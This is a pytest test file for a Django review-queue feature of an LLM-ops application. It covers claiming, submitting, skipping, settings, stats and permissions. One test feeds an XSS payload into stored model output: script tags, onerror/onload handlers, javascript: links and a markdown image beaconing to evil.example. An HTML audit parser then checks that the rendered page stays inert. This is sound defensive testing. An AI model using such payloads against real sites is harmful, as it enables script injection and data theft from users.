from html.parser import HTMLParser

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from llmops.traces.models import Generation
from reviews import services
from reviews.models import Assignment, QueueItem, Review

from .conftest import GOOD, fill, make_generations, make_queue


def _u(name, world, **kw):
    return reverse(f"reviews:{name}", kwargs={"org_slug": world.org.slug, **kw})


def test_list_page_shows_progress_and_pins_queries(acme, login):
    client = login(acme.users["reviewer1"])
    for i in range(3):
        q = make_queue(acme, name=f"Queue {i}")
        fill(q, make_generations(acme, 4, prefix=f"q{i}"))
    client.get(_u("list", acme))  # warm caches
    with CaptureQueriesContext(connection) as ctx:
        r = client.get(_u("list", acme))
    assert r.status_code == 200
    body = r.content.decode()
    assert "Queue 0" in body and "Queue 2" in body and "Start reviewing" in body
    few = len(ctx.captured_queries)
    for i in range(3, 6):
        q = make_queue(acme, name=f"Queue {i}")
        fill(q, make_generations(acme, 4, prefix=f"q{i}"))
    with CaptureQueriesContext(connection) as ctx:
        client.get(_u("list", acme))
    # Per-queue permission checks hit guardian's cached checker: no N+1 on progress.
    assert len(ctx.captured_queries) <= few + 2, [q["sql"] for q in ctx.captured_queries]


def test_keyboard_flow_submit_loads_next_item_as_partial(acme, login):
    queue = make_queue(acme)
    fill(queue, make_generations(acme, 2))
    client = login(acme.users["reviewer1"])
    r = client.post(_u("claim", acme, queue_id=queue.pk))
    assert r.status_code == 302
    first = Assignment.objects.get().item_id
    page = client.get(r["Location"])
    html = page.content.decode()
    assert 'id="review-form"' in html and 'data-key="y"' in html and 'data-key="3"' in html
    assert "js/reviews.js" in html and "data-lease-expires" in html
    escalate = reverse("incidents:from_review", kwargs={"org_slug": "acme", "item_id": first})
    assert f'href="{escalate}"' in html  # the incidents app provides the endpoint
    data = {"op": "submit", "q_correct": "true", "q_tone": "neutral", "q_quality": "4"}
    r = client.post(
        _u("item", acme, queue_id=queue.pk, item_id=first), data, HTTP_HX_REQUEST="true"
    )
    assert r.status_code == 200
    second = Assignment.objects.exclude(item_id=first).get().item_id
    assert r["HX-Push-Url"] == _u("item", acme, queue_id=queue.pk, item_id=second)
    body = r.content.decode()
    assert body.lstrip().startswith('<div id="review-screen"') and "<html" not in body
    assert f"Review of item {first} saved" in body
    assert Review.objects.get().answers == {"correct": True, "tone": "neutral", "quality": 4}


def test_invalid_answers_rerender_with_the_question_named(acme, login):
    queue = make_queue(acme)
    fill(queue, make_generations(acme, 1))
    client = login(acme.users["reviewer1"])
    a = services.item_claim(actor=acme.actor("reviewer1"), queue=queue)
    url = _u("item", acme, queue_id=queue.pk, item_id=a.item_id)
    r = client.post(
        url, {"op": "submit", "q_correct": "true", "comment": "keep me"}, HTTP_HX_REQUEST="true"
    )
    body = r.content.decode()
    assert r.status_code == 200 and "&#x27;tone&#x27;" in body and "keep me" in body
    assert 'value="true" data-key="y" checked' in body
    assert client.post(url, {"op": "submit"}).status_code == 400


def test_skip_via_htmx_and_last_item_redirects_to_list(acme, login):
    queue = make_queue(acme)
    fill(queue, make_generations(acme, 1))
    client = login(acme.users["reviewer1"])
    a = services.item_claim(actor=acme.actor("reviewer1"), queue=queue)
    r = client.post(
        _u("item", acme, queue_id=queue.pk, item_id=a.item_id),
        {"op": "skip", "reason": "Outside my expertise"},
        HTTP_HX_REQUEST="true",
    )
    assert r["HX-Redirect"] == _u("list", acme)
    assert Assignment.objects.get().skip_reason == "Outside my expertise"


class _Audit(HTMLParser):
    """Collects what could run or fetch: scripts, handlers, images, frames, js: links."""

    def __init__(self):
        super().__init__()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and not (attrs.get("src", "").startswith("/static/")):
            self.problems.append(f"script {attrs}")
        if tag in (
            "img",
            "iframe",
            "object",
            "embed",
            "svg",
            "video",
            "audio",
            "link",
            "meta",
            "base",
            "form",
        ) and tag not in ("link", "meta", "form"):
            self.problems.append(tag)
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}")
            if (
                name in ("href", "src", "action", "formaction")
                and value
                and value.strip().lower().startswith(("javascript:", "data:", "vbscript:"))
            ):
                self.problems.append(f"{tag} {name}={value}")
            if name == "style":
                self.problems.append(f"{tag} style")


def test_model_output_is_inert(acme, login):
    queue = make_queue(acme)
    payload = (
        "<script>alert(1)</script><img src=x onerror=alert(2)> ![x](https://evil.example/c?d=1) "
        '[a](javascript:alert(3)) <a href="javascript:alert(4)">b</a> <svg onload=alert(5)>'
    )
    (gen,) = make_generations(acme, 1)
    Generation.objects.filter(pk=gen.pk).update(
        output=payload,
        input={"messages": [{"role": "user", "content": payload}]},
        context=[payload],
        tool_calls=[{"name": payload}],
        metadata={"k": payload},
    )
    fill(queue, [gen])
    client = login(acme.users["reviewer1"])
    a = services.item_claim(actor=acme.actor("reviewer1"), queue=queue)
    html = client.get(_u("item", acme, queue_id=queue.pk, item_id=a.item_id)).content.decode()
    audit = _Audit()
    audit.feed(html)
    assert audit.problems == []
    assert "evil.example" not in html.split('id="out-md"')[1].split("</div>")[0]


def test_escalate_button_hidden_without_incidents_route(acme, login):
    from unittest import mock

    from django.urls import NoReverseMatch

    from reviews import views

    queue = make_queue(acme)
    fill(queue, make_generations(acme, 1))
    a = services.item_claim(actor=acme.actor("reviewer1"), queue=queue)
    real = views.reverse

    def without_incidents(name, *args, **kwargs):
        if name.startswith("incidents:"):
            raise NoReverseMatch(name)
        return real(name, *args, **kwargs)

    client = login(acme.users["reviewer1"])
    with mock.patch.object(views, "reverse", side_effect=without_incidents):
        html = client.get(_u("item", acme, queue_id=queue.pk, item_id=a.item_id)).content.decode()
    assert "Escalate" not in html and 'id="review-form"' in html


def test_settings_page_ops(acme, login):
    queue = make_queue(acme)
    make_generations(acme, 10)
    client = login(acme.users["maint1"])
    url = _u("settings", acme, queue_id=queue.pk)
    assert client.get(url).status_code == 200
    r = client.post(
        url,
        {
            "op": "question_add",
            "key": "lang",
            "label": "Language",
            "type": "choice",
            "options": "en",
        },
        follow=True,
    )
    assert "&#x27;lang&#x27;: a choice question needs at least 2 options" in r.content.decode()
    client.post(
        url,
        {
            "op": "question_add",
            "key": "lang",
            "label": "Language",
            "type": "choice",
            "options": "en\nde",
        },
    )
    queue.refresh_from_db()
    assert queue.rubric["questions"][-1]["options"] == ["en", "de"]
    r = client.post(
        url, {"op": "rule_preview", "rate": "1", "priority": "0"}, HTTP_HX_REQUEST="true"
    )
    assert b"<strong>10</strong> of 10" in r.content and b"<html" not in r.content
    client.post(url, {"op": "rule_add", "rate": "0.5", "priority": "1", "errors_only": "on"})
    assert queue.rules.get().filters == {"errors_only": True}
    client.post(url, {"op": "grant", "username": "acme-reviewer2"})
    assert services.item_claim(actor=acme.actor("reviewer2"), queue=queue) is None  # visible now
    # Reviewers cannot open settings.
    assert login(acme.users["reviewer1"]).get(url).status_code == 403


def test_backfill_progress_partial(acme, login, django_capture_on_commit_callbacks):
    queue = make_queue(acme)
    make_generations(acme, 12)
    services.rule_create(actor=acme.actor("maint1"), queue=queue, rate=1.0)
    client = login(acme.users["maint1"])
    url = _u("settings", acme, queue_id=queue.pk)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(
            url, {"op": "backfill", "since": "2000-01-01T00:00", "until": "2000-01-02T00:00"}
        )
    r = client.get(url + "?part=backfill", HTTP_HX_REQUEST="true")
    body = r.content.decode()
    assert 'id="backfill-status"' in body and "Done" in body and "hx-trigger" not in body


def test_stats_adjudication_and_export_pages(acme, login):
    queue = make_queue(acme, overlap=2, reviewers=("reviewer1", "reviewer2"), sla_hours=1)
    (item,) = fill(queue, make_generations(acme, 1))
    for who, answers in (("reviewer1", GOOD), ("reviewer2", {**GOOD, "correct": False})):
        services.item_claim(actor=acme.actor(who), queue=queue)
        services.review_submit(actor=acme.actor(who), item=item, answers=answers)
    client = login(acme.users["maint2"])
    stats = client.get(_u("stats", acme, queue_id=queue.pk)).content.decode()
    assert "Krippendorff" in stats and "acme-reviewer1" in stats
    page = client.get(_u("adjudication", acme, queue_id=queue.pk)).content.decode()
    assert f"Item {item.pk}" in page
    r = client.post(
        _u("adjudication", acme, queue_id=queue.pk),
        {"item": item.pk, "q_correct": "false", "q_tone": "neutral", "q_quality": "4"},
    )
    assert r.status_code == 302
    assert QueueItem.objects.get().final_answers["correct"] is False
    r = client.get(_u("export", acme, queue_id=queue.pk) + "?format=csv")
    assert r.status_code == 200 and r["Content-Type"] == "text/csv"
    assert (
        login(acme.users["reviewer1"]).get(_u("adjudication", acme, queue_id=queue.pk)).status_code
        == 403
    )


@pytest.mark.parametrize("who, status", [("reviewer2", 404), ("viewer", 200)])
def test_queue_pages_respect_grants(acme, login, who, status):
    queue = make_queue(acme, reviewers=("reviewer1",))
    assert login(acme.users[who]).get(_u("stats", acme, queue_id=queue.pk)).status_code == status


def test_home_card_counts_items_waiting_for_me(acme, login):
    queue = make_queue(acme)
    fill(queue, make_generations(acme, 3))
    html = login(acme.users["reviewer1"]).get(reverse("tenancy:home", kwargs={"org_slug": "acme"}))
    body = html.content.decode()
    assert "items waiting for you in 1 queue(s)" in body
    other = login(acme.users["reviewer2"]).get(reverse("tenancy:home", kwargs={"org_slug": "acme"}))
    assert "items waiting for you" not in other.content.decode()  # no queue granted


def test_an_unknown_op_is_a_400_naming_it_on_settings_and_item_pages(acme, login):
    """The pages take their POST ops through the shared OpDispatchMixin: an op they do not
    take is a 400 page naming it (it was a bare 404), and nothing changes."""
    queue = make_queue(acme)
    (item,) = fill(queue, make_generations(acme, 1))
    maint = login(acme.users["maint1"])
    r = maint.post(_u("settings", acme, queue_id=queue.pk), {"op": "drop_table"})
    assert r.status_code == 400
    body = r.content.decode()
    assert "drop_table" in body and "rule_add" in body
    reviewer = login(acme.users["reviewer1"])
    services.item_claim(actor=acme.actor("reviewer1"), queue=queue)
    r = reviewer.post(_u("item", acme, queue_id=queue.pk, item_id=item.pk), {"op": "approve"})
    assert r.status_code == 400 and "approve" in r.content.decode()
    assert not Review.objects.exists()
    assert Assignment.objects.get().state == "active"
